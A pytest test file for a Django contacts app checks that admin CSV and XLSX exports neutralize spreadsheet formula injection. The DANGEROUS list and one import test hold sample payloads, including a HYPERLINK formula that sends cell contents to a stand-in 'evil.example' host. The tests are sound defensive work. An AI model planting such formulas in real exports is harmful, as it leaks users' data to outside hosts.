"""Admin export (django-import-export, CSV and XLSX) is safe to open in a spreadsheet."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from import_export.formats.base_formats import CSV

from contacts.exporting import neutralize_cell as neutralize
from contacts.importing.resources import ContactExportResource
from contacts.models import Contact, CustomField
from tests.contacts.factories import CustomFieldFactory, TagFactory, UserFactory
from tests.contacts.test_import import do_import

pytestmark = pytest.mark.django_db

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.fixture
def admin_client_logged_in(client):
    user = UserFactory(username="root", is_staff=True, is_superuser=True)
    client.force_login(user)
    return client


def export_via_admin(client, file_format: str) -> bytes:
    url = reverse("admin:contacts_contact_export")
    form = client.get(url).context["form"]
    formats = dict((label.lower(), value) for value, label in form.fields["format"].choices if value != "")
    data = {"format": formats[file_format], "resource": form.fields["resource"].initial or 0}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_neutralize_prefixes_every_formula_trigger():
    assert [neutralize(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert neutralize("Ann") == "Ann" and neutralize(42) == 42 and neutralize("") == ""


def test_stock_escape_setting_alone_misses_plus_and_at(settings):
    """IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT only drops a leading "=": why the resource neutralizes cells itself."""
    import tablib

    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
    dataset = tablib.Dataset(["=1+1", "+1+1", "@SUM(1)"], headers=["a", "b", "c"])
    exported = CSV().export_data(dataset)
    assert "1+1,+1+1,@SUM(1)" in exported


def test_imported_formula_cells_export_back_neutralized_as_csv_and_xlsx(staff_actor, admin_client_logged_in):
    CustomFieldFactory(key="note", label="Note", type=CustomField.Type.TEXT)
    TagFactory(name="Lead")
    headers = ["Name", "Email", "Company", "Note", "Tags"]
    do_import(staff_actor, [["=HYPERLINK(\"http://evil.example\",\"x\")", "a@example.com", "+1+1", "@SUM(1)", "Lead"]], headers=headers)
    contact = Contact.objects.get()
    assert contact.name.startswith("=HYPERLINK")  # stored as given: escaping is the export's job

    text = export_via_admin(admin_client_logged_in, "csv").decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["email"] == "a@example.com")
    assert row["name"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert row["company"] == "'+1+1"
    assert row["custom.note"] == "'@SUM(1)"
    assert row["tags"] == "Lead"

    book = openpyxl.load_workbook(io.BytesIO(export_via_admin(admin_client_logged_in, "xlsx")))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, [c.value for c in sheet[2]], strict=False))
    assert values["name"].startswith("'=HYPERLINK")
    assert values["company"] == "'+1+1"
    assert values["custom.note"] == "'@SUM(1)"
    assert all(cell.data_type != "f" for cell in sheet[2])  # no cell is a formula


def test_export_resource_writes_phone_tags_and_custom_columns(staff_actor):
    CustomFieldFactory(key="budget", label="Budget", type=CustomField.Type.NUMBER)
    do_import(staff_actor, [["Ann", "(561) 555-0192", "1200"]], headers=["Name", "Phone", "Budget"])
    dataset = ContactExportResource().export()
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["phone_e164"] == "'+15615550192"  # "+" starts a formula too
    assert row["custom.budget"] == 1200
    assert row["source"] == "import"
